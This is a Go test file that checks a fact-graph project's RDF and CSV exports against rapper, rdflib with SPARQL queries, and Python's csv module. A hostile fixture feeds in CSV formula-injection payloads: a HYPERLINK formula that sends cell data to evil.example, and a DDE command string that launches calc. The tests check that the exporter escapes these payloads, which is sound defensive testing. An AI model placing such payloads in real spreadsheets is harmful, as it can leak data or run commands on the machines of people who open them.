package export

// Real consumers read the exported files: rapper (Debian raptor2-utils),
// rdflib (Debian python3-rdflib) with its SPARQL engine, and Python's csv
// module. What they read back is compared with the graph the loader built,
// never with the exporters' own view of it. A missing consumer skips its
// test with the package to install, except under CI=true, where it fails.

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/factgraph/factgraph/internal/date"
	"github.com/factgraph/factgraph/internal/fact"
	"github.com/factgraph/factgraph/internal/graph"
)

// missing reports a consumer that is not installed.
func missing(t *testing.T, what string) {
	t.Helper()
	if os.Getenv("CI") == "true" {
		t.Fatalf("consumer check needs %s, which is not installed (CI=true makes this a failure)", what)
	}
	t.Skipf("skipping consumer check: %s is not installed", what)
}

// python finds a Python 3 that can import the given modules: Debian's
// /usr/bin/python3 first, because a python3 earlier on PATH (pyenv,
// a virtualenv) often lacks the Debian packages.
func python(t *testing.T, modules ...string) string {
	t.Helper()
	candidates := []string{"/usr/bin/python3"}
	if p, err := exec.LookPath("python3"); err == nil {
		candidates = append(candidates, p)
	}
	probe := "import " + strings.Join(append([]string{"sys"}, modules...), ", ")
	for _, p := range candidates {
		if exec.Command(p, "-c", probe).Run() == nil {
			return p
		}
	}
	what := "python3"
	if len(modules) > 0 {
		what = "python3 with " + strings.Join(modules, ", ") + " (Debian python3-" + modules[0] + ")"
	}
	missing(t, what)
	return ""
}

// writeFiles writes the exported files into a fresh directory.
func writeFiles(t *testing.T, files map[string][]byte) string {
	t.Helper()
	dir := t.TempDir()
	for name, data := range files {
		if err := os.WriteFile(filepath.Join(dir, name), data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// lines counts the lines of an N-Triples file: one triple each.
func lines(data []byte) int { return bytes.Count(data, []byte("\n")) }

var rapperCount = regexp.MustCompile(`Parsing returned (\d+) triples`)

func TestRapper(t *testing.T) {
	rapper, err := exec.LookPath("rapper")
	if err != nil {
		missing(t, "rapper (Debian raptor2-utils)")
	}
	for _, fx := range fixtures {
		t.Run(fx.name, func(t *testing.T) {
			files := exportAll(t, load(t, fx))
			dir := writeFiles(t, files)
			want := lines(files[NTriplesFile])
			if want < 100 {
				t.Fatalf("graph.nt has only %d triples", want)
			}
			for _, f := range []struct{ name, syntax string }{{NTriplesFile, "ntriples"}, {TurtleFile, "turtle"}} {
				var stderr bytes.Buffer
				cmd := exec.Command(rapper, "-i", f.syntax, "-c", filepath.Join(dir, f.name))
				cmd.Stderr = &stderr
				if err := cmd.Run(); err != nil {
					t.Fatalf("rapper %s: %v\n%s", f.name, err, stderr.Bytes())
				}
				if bytes.Contains(stderr.Bytes(), []byte("Error")) || bytes.Contains(stderr.Bytes(), []byte("Warning")) {
					t.Errorf("rapper complained about %s:\n%s", f.name, stderr.Bytes())
				}
				m := rapperCount.FindSubmatch(stderr.Bytes())
				if m == nil {
					t.Fatalf("rapper %s: no triple count in\n%s", f.name, stderr.Bytes())
				}
				if got, _ := strconv.Atoi(string(m[1])); got != want {
					t.Errorf("rapper read %d triples from %s, want %d (the lines of graph.nt)", got, f.name, want)
				}
			}
			// Same triples, not just as many: rapper writes both files
			// back as N-Triples in its own form.
			reserialise := func(name, syntax string) []string {
				out, err := exec.Command(rapper, "-q", "-i", syntax, "-o", "ntriples", filepath.Join(dir, name)).Output()
				if err != nil {
					t.Fatalf("rapper -o ntriples %s: %v", name, err)
				}
				ls := strings.Split(strings.TrimSuffix(string(out), "\n"), "\n")
				slices.Sort(ls)
				return ls
			}
			nt, ttl := reserialise(NTriplesFile, "ntriples"), reserialise(TurtleFile, "turtle")
			if len(nt) != want || !slices.Equal(nt, ttl) {
				t.Errorf("rapper reads different triples from graph.nt (%d) and graph.ttl (%d)", len(nt), len(ttl))
			}
		})
	}
}

// rdflibScript parses graph.nt with rdflib's N-Triples parser and with
// its Turtle parser (N-Triples is a subset of Turtle), and graph.ttl with
// the Turtle parser; it reports the counts, the differences with the
// Turtle reading, the triples of graph.ttl and the answers to the SPARQL
// queries over them.
const rdflibScript = `
import json, sys, rdflib
from rdflib import URIRef, Literal

job = json.load(sys.stdin)
def parse(path, fmt):
    g = rdflib.Graph()
    g.parse(path, format=fmt)
    return g

nt, nt_turtle, ttl = parse(job["nt"], "nt"), parse(job["nt"], "turtle"), parse(job["ttl"], "turtle")

def term(t):
    if isinstance(t, URIRef):
        return {"iri": str(t)}
    if isinstance(t, Literal):
        return {"value": str(t), "datatype": str(t.datatype) if t.datatype else "", "lang": t.language or ""}
    return {"bnode": str(t)}

def triples(ts):
    return sorted([[term(x) for x in tr] for tr in ts], key=json.dumps)

out = {
    "version": rdflib.__version__,
    "counts": {"nt": len(nt), "nt-as-turtle": len(nt_turtle), "ttl": len(ttl)},
    "ntAsTurtleSame": set(nt_turtle) == set(ttl),
    "ntOnly": triples(set(nt) - set(ttl)),
    "ttlOnly": triples(set(ttl) - set(nt)),
    "triples": triples(ttl),
    "queries": {name: sorted([[term(v) for v in row] for row in ttl.query(q)], key=json.dumps)
                for name, q in job["queries"].items()},
}
json.dump(out, sys.stdout, ensure_ascii=False)
`

type rdfTerm struct {
	IRI      string `json:"iri"`
	Value    string `json:"value"`
	Datatype string `json:"datatype"`
	Lang     string `json:"lang"`
	BNode    string `json:"bnode"`
}

type rdflibResult struct {
	Version        string                 `json:"version"`
	Counts         map[string]int         `json:"counts"`
	NTAsTurtleSame bool                   `json:"ntAsTurtleSame"`
	NTOnly         [][3]rdfTerm           `json:"ntOnly"`
	TTLOnly        [][3]rdfTerm           `json:"ttlOnly"`
	Triples        [][3]rdfTerm           `json:"triples"`
	Queries        map[string][][]rdfTerm `json:"queries"`
}

// rdflib parses graph.nt and graph.ttl of files with rdflib, checks that
// every reading has exactly the triples written, and runs the queries.
func rdflib(t *testing.T, files map[string][]byte, queries map[string]string) rdflibResult {
	t.Helper()
	py := python(t, "rdflib")
	dir := writeFiles(t, files)
	job, _ := json.Marshal(map[string]any{
		"nt": filepath.Join(dir, NTriplesFile), "ttl": filepath.Join(dir, TurtleFile), "queries": queries})
	cmd := exec.Command(py, "-c", rdflibScript)
	cmd.Stdin = bytes.NewReader(job)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("rdflib: %v\n%s", err, stderr.Bytes())
	}
	var res rdflibResult
	if err := json.Unmarshal(out, &res); err != nil {
		t.Fatalf("rdflib output: %v", err)
	}
	want := lines(files[NTriplesFile])
	for _, reading := range []string{"nt", "nt-as-turtle", "ttl"} {
		if res.Counts[reading] != want {
			t.Errorf("rdflib (%s) read %d triples, want %d (the lines of graph.nt)", reading, res.Counts[reading], want)
		}
	}
	if !res.NTAsTurtleSame {
		t.Errorf("rdflib's Turtle parser reads different triples from graph.nt and graph.ttl")
	}
	if len(res.NTOnly)+len(res.TTLOnly) > 0 {
		if !escapeBug(res) {
			t.Errorf("rdflib's N-Triples parser reads different triples from graph.nt than from graph.ttl:\nonly in graph.nt: %v\nonly in graph.ttl: %v", res.NTOnly, res.TTLOnly)
		} else {
			t.Logf("rdflib %s's N-Triples parser decodes a backslash followed by u, n, t... twice (fixed in rdflib 6.2.0, RDFLib/rdflib#1663); %d literals with backslashes differ, as that bug predicts", res.Version, len(res.NTOnly))
		}
	}
	return res
}

// escapeBug reports whether the difference between rdflib's readings of
// graph.nt and graph.ttl is exactly the escape bug of rdflib before 6.2.0:
// the version is affected, and every differing triple is a literal that
// has a backslash in the Turtle reading, paired with the N-Triples reading
// of the same subject and predicate.
func escapeBug(res rdflibResult) bool {
	var major, minor int
	if _, err := fmt.Sscanf(res.Version, "%d.%d", &major, &minor); err != nil || major > 6 || major == 6 && minor >= 2 {
		return false
	}
	if len(res.NTOnly) != len(res.TTLOnly) {
		return false
	}
	pending := map[[2]string]int{}
	for _, tr := range res.TTLOnly {
		if tr[2].IRI != "" || !strings.Contains(tr[2].Value, "\\") {
			return false
		}
		pending[[2]string{tr[0].IRI, tr[1].IRI}]++
	}
	for _, tr := range res.NTOnly {
		k := [2]string{tr[0].IRI, tr[1].IRI}
		if tr[2].IRI != "" || pending[k] == 0 {
			return false
		}
		pending[k]--
	}
	return true
}

const (
	rdfsLabel    = "http://www.w3.org/2000/01/rdf-schema#label"
	rdfsComment  = "http://www.w3.org/2000/01/rdf-schema#comment"
	rdfTypeIRI   = "http://www.w3.org/1999/02/22-rdf-syntax-ns#type"
	skosAltLabel = "http://www.w3.org/2004/02/skos/core#altLabel"
	schemaDesc   = "https://schema.org/description"
	wbRank       = "http://wikiba.se/ontology#rank"
	provDerived  = "http://www.w3.org/ns/prov#wasDerivedFrom"
	xsdNS        = "http://www.w3.org/2001/XMLSchema#"
)

// TestRDFLibReadsTheFacts checks that rdflib reads back every label,
// alias, description, statement value, rank and source exactly as the
// loader read them from the YAML, and that no input text became a triple
// of its own.
func TestRDFLibReadsTheFacts(t *testing.T) {
	for _, fx := range fixtures {
		t.Run(fx.name, func(t *testing.T) {
			g := load(t, fx)
			res := rdflib(t, exportAll(t, g), map[string]string{})
			base := g.Vocab.Base
			// objects[s][p] lists what rdflib read.
			objects := map[string]map[string][]rdfTerm{}
			for _, tr := range res.Triples {
				s, p, o := tr[0], tr[1], tr[2]
				if s.BNode != "" || o.BNode != "" {
					t.Errorf("blank node in %v", tr)
				}
				if o.Lang != "" {
					t.Errorf("language tag %q on %v", o.Lang, tr)
				}
				for _, x := range []string{s.IRI, p.IRI, o.IRI} {
					if strings.Contains(x, "evil.example") {
						t.Errorf("input text became a term of its own: %v", tr)
					}
				}
				if objects[s.IRI] == nil {
					objects[s.IRI] = map[string][]rdfTerm{}
				}
				objects[s.IRI][p.IRI] = append(objects[s.IRI][p.IRI], o)
			}
			literals := func(ts []rdfTerm) []string {
				var out []string
				for _, x := range ts {
					out = append(out, x.Value)
				}
				slices.Sort(out)
				return out
			}
			for _, e := range g.Entities {
				po := objects[base+"id/"+e.ID()]
				if got := literals(po[rdfsLabel]); !slices.Equal(got, []string{e.Label.Value}) {
					t.Errorf("%s: rdfs:label %q, want %q", e.ID(), got, e.Label.Value)
				}
				var aliases []string
				for _, a := range e.Aliases {
					aliases = append(aliases, a.Value)
				}
				slices.Sort(aliases)
				if got := literals(po[skosAltLabel]); !slices.Equal(got, aliases) {
					t.Errorf("%s: skos:altLabel %q, want %q", e.ID(), got, aliases)
				}
				var desc []string
				if e.Description.Value != "" {
					desc = []string{e.Description.Value}
				}
				if got := literals(po[schemaDesc]); !slices.Equal(got, desc) {
					t.Errorf("%s: schema:description %q, want %q", e.ID(), got, desc)
				}
			}
			// Every claim has exactly one statement node, reached from its
			// subject, carrying everything its YAML statement says. Both
			// sides are described in the same words, the nodes from what
			// rdflib read, the claims from the loader's graph, and the two
			// lists must be equal.
			var nodes, want []string
			for _, tr := range res.Triples {
				s, p, st := tr[0], tr[1], tr[2]
				name, ok := strings.CutPrefix(p.IRI, base+"vocab/p/")
				if !ok {
					continue
				}
				po := objects[st.IRI]
				one := func(prop string) string {
					var out []string
					for _, o := range po[prop] {
						out = append(out, termKey(o))
					}
					slices.Sort(out)
					return strings.Join(out, " ")
				}
				q := func(name string) string { return one(base + "vocab/pq/" + name) }
				nodes = append(nodes, fmt.Sprintf("%s %s %s | %s | %s | from %s to %s at %s share %s | %s | %s | %s %s",
					termKey(s), name, one(base+"vocab/ps/"+name), one(wbRank), one(provDerived),
					q("from"), q("to"), q("at"), q("share"), q("reason"), one(rdfsComment),
					q("writtenSubject"), q("writtenPredicate")))
			}
			statementNodes := 0
			for s, po := range objects {
				if strings.HasPrefix(s, base+"statement/") {
					statementNodes++
					if types := po[rdfTypeIRI]; len(types) != 1 || types[0].IRI != "http://wikiba.se/ontology#Statement" {
						t.Errorf("statement node %s has types %v", s, types)
					}
				}
			}
			if statementNodes != len(g.Claims) {
				t.Errorf("%d statement nodes for %d claims", statementNodes, len(g.Claims))
			}
			for _, c := range g.Claims {
				lit := func(v, datatype string) string { return termKey(rdfTerm{Value: v, Datatype: datatype}) }
				id := func(e string) string { return termKey(rdfTerm{IRI: base + "id/" + e}) }
				dateKey := func(d date.Date) string {
					if d.IsZero() {
						return ""
					}
					return lit(d.String(), xsdNS+map[date.Precision]string{date.Year: "gYear", date.Month: "gYearMonth", date.Day: "date"}[d.Prec])
				}
				var value string
				switch {
				case c.Object != nil:
					value = id(c.Object.ID())
				case c.Predicate.Datatype == "url":
					value = termKey(rdfTerm{IRI: c.Value.Value})
				case c.Predicate.Datatype == "date":
					d, _ := date.Parse(c.Value.Value)
					value = dateKey(d)
				default:
					value = lit(c.Value.Value, "")
				}
				var srcs []string
				for _, s := range c.SourceIDs() {
					srcs = append(srcs, id(s))
				}
				slices.Sort(srcs)
				share, reason, note := "", "", ""
				if c.Share != nil {
					share = lit(c.Share.Value, xsdNS+"decimal")
				}
				if c.Stmt.Reason().Value != "" {
					reason = lit(c.Stmt.Reason().Value, "")
				}
				if c.Stmt.Note().Value != "" {
					note = lit(c.Stmt.Note().Value, "")
				}
				want = append(want, fmt.Sprintf("%s %s %s | %s | %s | from %s to %s at %s share %s | %s | %s | %s %s",
					id(c.Subject.ID()), c.Predicate.Name, value,
					termKey(rdfTerm{IRI: "http://wikiba.se/ontology#" + capitalise(c.Rank.String()) + "Rank"}),
					strings.Join(srcs, " "),
					dateKey(c.Interval.From), dateKey(c.Interval.To), dateKey(c.Interval.At), share, reason, note,
					id(c.Stmt.Subject.ID.Value), termKey(rdfTerm{IRI: base + "vocab/" + c.Stmt.Predicate.Value})))
			}
			slices.Sort(nodes)
			slices.Sort(want)
			if !slices.Equal(nodes, want) {
				t.Errorf("statement nodes differ from the claims:\n got %q\nwant %q", nodes, want)
			}
			if fx.name == hostile.name {
				want := `=HYPERLINK("https://evil.example/?x="&A1,"click")`
				if got := literals(objects[base+"id/formula-corp"][rdfsLabel]); !slices.Equal(got, []string{want}) {
					t.Errorf("formula-corp label read back as %q, want %q", got, want)
				}
			}
		})
	}
}

// spo writes a claim as "subject predicate object-or-value", the form the
// SPARQL results are compared in.
func spo(c *graph.Claim) string {
	return c.Subject.ID() + " " + c.Predicate.Name + " " + c.ObjectText()
}

// termKey writes a term read by rdflib in one comparable form.
func termKey(o rdfTerm) string {
	if o.IRI != "" {
		return "<" + o.IRI + ">"
	}
	if o.Datatype == xsdNS+"string" {
		o.Datatype = ""
	}
	return strconv.Quote(o.Value) + "^^" + o.Datatype
}

func capitalise(s string) string { return strings.ToUpper(s[:1]) + s[1:] }

// heldQuery lists the claims that certainly held on some day of [from,
// to], using only the statement nodes: not deprecated, and timeless or
// with day bounds that force an overlap. It is the query docs/outputs.md
// gives consumers.
func heldQuery(base, from, to string) string {
	return fmt.Sprintf(`
PREFIX wikibase: <http://wikiba.se/ontology#>
PREFIX xsd: <http://www.w3.org/2001/XMLSchema#>
PREFIX pq: <%[1]svocab/pq/>
SELECT ?s ?ps ?o WHERE {
  ?s ?p ?st .
  ?st a wikibase:Statement ; ?ps ?o ; wikibase:rank ?rank .
  FILTER(STRSTARTS(STR(?p), "%[1]svocab/p/") && STRSTARTS(STR(?ps), "%[1]svocab/ps/"))
  FILTER(?rank != wikibase:DeprecatedRank)
  { ?st pq:timeless true }
  UNION
  { ?st pq:latestStart ?ls .
    OPTIONAL { ?st pq:earliestEnd ?ee }
    FILTER(?ls <= "%[3]s"^^xsd:date && (!BOUND(?ee) || ?ee > "%[2]s"^^xsd:date)) }
}`, base, from, to)
}

// nowQuery lists the direct triples between entities and values.
func nowQuery(base string) string {
	return fmt.Sprintf(`
SELECT ?s ?p ?o WHERE {
  ?s ?p ?o .
  FILTER(STRSTARTS(STR(?s), "%[1]sid/") && STRSTARTS(STR(?p), "%[1]svocab/")
         && !CONTAINS(STRAFTER(STR(?p), "%[1]svocab/"), "/"))
}`, base)
}

// TestSPARQL asks rdflib the two questions of the issue about the shipped
// facts, and then the same kinds of question for every claim and every
// year from 2000 to 2016, comparing with what the graph itself says
// (graph.Current and graph.Claim.HeldDuring).
func TestSPARQL(t *testing.T) {
	g := load(t, shipped)
	base := g.Vocab.Base
	years := make([]int, 0, 17)
	for y := 2000; y <= 2016; y++ {
		years = append(years, y)
	}
	queries := map[string]string{
		"operates-alipay-now": fmt.Sprintf(`SELECT ?o WHERE { <%[1]sid/alipay> <%[1]svocab/operatedBy> ?o }`, base),
		"now":                 nowQuery(base),
	}
	for _, y := range years {
		queries[fmt.Sprintf("held-%d", y)] = heldQuery(base, fmt.Sprintf("%d-01-01", y), fmt.Sprintf("%d-12-31", y))
	}
	res := rdflib(t, exportAll(t, g), queries)

	// key turns a result row (subject, predicate IRI, object) into
	// "subject predicate object" with ids and source text.
	key := func(row []rdfTerm, prefix string) string {
		obj := row[2].Value
		if row[2].IRI != "" {
			obj = strings.TrimPrefix(row[2].IRI, base+"id/")
		}
		return strings.TrimPrefix(row[0].IRI, base+"id/") + " " + strings.TrimPrefix(row[1].IRI, base+prefix) + " " + obj
	}
	set := func(rows [][]rdfTerm, prefix string) []string {
		var out []string
		for _, r := range rows {
			out = append(out, key(r, prefix))
		}
		slices.Sort(out)
		return slices.Compact(out)
	}

	// The two questions, with the answers the sources give.
	var operators []string
	for _, r := range res.Queries["operates-alipay-now"] {
		operators = append(operators, strings.TrimPrefix(r[0].IRI, base+"id/"))
	}
	if !slices.Equal(operators, []string{"ant-group"}) {
		t.Errorf("who operates Alipay now: %q, want [ant-group]", operators)
	}
	owners := func(year int) []string {
		var out []string
		for _, k := range set(res.Queries[fmt.Sprintf("held-%d", year)], "vocab/ps/") {
			if rest, ok := strings.CutPrefix(k, "alipay ownedBy "); ok {
				out = append(out, rest)
			}
		}
		return out
	}
	if got := owners(2008); !slices.Equal(got, []string{"alibaba-group"}) {
		t.Errorf("who owned Alipay in 2008: %q, want [alibaba-group]", got)
	}
	if got := owners(2015); !slices.Equal(got, []string{"ant-group"}) {
		t.Errorf("who owned Alipay in 2015: %q, want [ant-group]", got)
	}

	// Every claim, every year, against the graph.
	var now []string
	for _, c := range g.Claims {
		if g.Current(c) {
			now = append(now, spo(c))
			if c.Predicate.Symmetric && c.Object != nil {
				now = append(now, c.Object.ID()+" "+c.Predicate.Name+" "+c.Subject.ID())
			}
		}
	}
	slices.Sort(now)
	if got := set(res.Queries["now"], "vocab/"); !slices.Equal(got, slices.Compact(now)) {
		t.Errorf("direct triples:\n got %q\nwant %q", got, now)
	}
	for _, y := range years {
		var want []string
		for _, c := range g.Claims {
			if c.Rank != fact.Deprecated && c.HeldDuring(date.Date{Year: int16(y), Prec: date.Year}) {
				want = append(want, spo(c))
			}
		}
		slices.Sort(want)
		want = slices.Compact(want)
		if got := set(res.Queries[fmt.Sprintf("held-%d", y)], "vocab/ps/"); !slices.Equal(got, want) {
			t.Errorf("claims held in %d:\n got %q\nwant %q", y, got, want)
		}
	}
}

// csvScript reads each CSV file with Python's csv module, strictly.
const csvScript = `
import csv, json, sys
out = {}
for path in sys.argv[1:]:
    with open(path, newline="", encoding="utf-8") as f:
        out[path] = [row for row in csv.reader(f, strict=True)]
json.dump(out, sys.stdout, ensure_ascii=False)
`

// restore undoes the formula rule, as docs/outputs.md tells consumers to.
func restore(cell string) string { return strings.TrimPrefix(cell, "'") }

// TestPythonCSV reads both tables with Python's csv module and checks
// that, after undoing the formula rule, they are exactly the rows built
// from the graph, that no cell can start a formula, and that the cells
// holding hostile text are the text of the fact files.
func TestPythonCSV(t *testing.T) {
	py := python(t)
	for _, fx := range fixtures {
		t.Run(fx.name, func(t *testing.T) {
			g := load(t, fx)
			files := exportAll(t, g)
			dir := writeFiles(t, files)
			ent, stm := filepath.Join(dir, EntitiesCSV), filepath.Join(dir, StatementsCSV)
			out, err := exec.Command(py, "-c", csvScript, ent, stm).Output()
			if err != nil {
				t.Fatalf("python csv: %v", err)
			}
			var read map[string][][]string
			if err := json.Unmarshal(out, &read); err != nil {
				t.Fatal(err)
			}
			cs, err := claims(g)
			if err != nil {
				t.Fatal(err)
			}
			for _, tc := range []struct {
				path string
				want [][]string
			}{
				{ent, rows(entityColumns, g.Entities)},
				{stm, rows(statementColumns, cs)},
			} {
				got := read[tc.path]
				if len(got) != len(tc.want) {
					t.Fatalf("%s: python read %d rows, want %d", filepath.Base(tc.path), len(got), len(tc.want))
				}
				for i, row := range got {
					for j, cell := range row {
						if dangerous(cell) {
							t.Errorf("%s row %d column %d: %q can start a formula", filepath.Base(tc.path), i, j, cell)
						}
						row[j] = restore(cell)
					}
					if !slices.Equal(row, tc.want[i]) {
						t.Errorf("%s row %d:\n got %q\nwant %q", filepath.Base(tc.path), i, row, tc.want[i])
					}
				}
			}
			// Independently of the exporter: the cells are the loader's
			// text, and lists decode to the lists written.
			entities := read[ent]
			col := func(name string) int { return slices.Index(entities[0], name) }
			for i, e := range g.Entities {
				row := entities[i+1]
				if row[col("id")] != e.ID() || row[col("label")] != e.Label.Value || row[col("description")] != e.Description.Value {
					t.Errorf("entity %s read back as %q", e.ID(), row)
				}
				var aliases []string
				if cell := row[col("aliases")]; cell != "" {
					if err := json.Unmarshal([]byte(cell), &aliases); err != nil {
						t.Errorf("%s aliases %q: %v", e.ID(), cell, err)
					}
				}
				var want []string
				for _, a := range e.Aliases {
					want = append(want, a.Value)
				}
				if !slices.Equal(aliases, want) {
					t.Errorf("%s aliases read back as %q, want %q", e.ID(), aliases, want)
				}
			}
			statements := read[stm]
			scol := func(name string) int { return slices.Index(statements[0], name) }
			for i, c := range g.Claims {
				row := statements[i+1]
				obj := row[scol("object")] + row[scol("value")]
				sources := strings.Fields(row[scol("sources")])
				if row[scol("subject")] != c.Subject.ID() || row[scol("predicate")] != c.Predicate.Name ||
					obj != c.ObjectText() || row[scol("reason")] != c.Stmt.Reason().Value ||
					row[scol("file")] != c.Stmt.Subject.File || row[scol("line")] != strconv.Itoa(c.Stmt.Pos().Line) ||
					!slices.Equal(sources, c.SourceIDs()) {
					t.Errorf("statement %s read back as %q", c.Stmt.Pos(), row)
				}
			}
			if fx.name == hostile.name {
				want := map[string]string{
					"formula-corp": `=HYPERLINK("https://evil.example/?x="&A1,"click")`,
					"zeta-product": "'Zeta",
					"other-corp":   "+cmd|' /C calc'!A0",
					"42":           "42",
				}
				for i := 1; i < len(entities); i++ {
					if w, ok := want[entities[i][0]]; ok && entities[i][col("label")] != w {
						t.Errorf("%s label %q, want %q", entities[i][0], entities[i][col("label")], w)
					}
				}
			}
		})
	}
}

// dangerous reports whether a raw cell could be read as a formula: it
// starts with = + - @ TAB CR or LF and is not a plain decimal number.
func dangerous(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) && !plainNumber.MatchString(cell)
}

var plainNumber = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?$`)
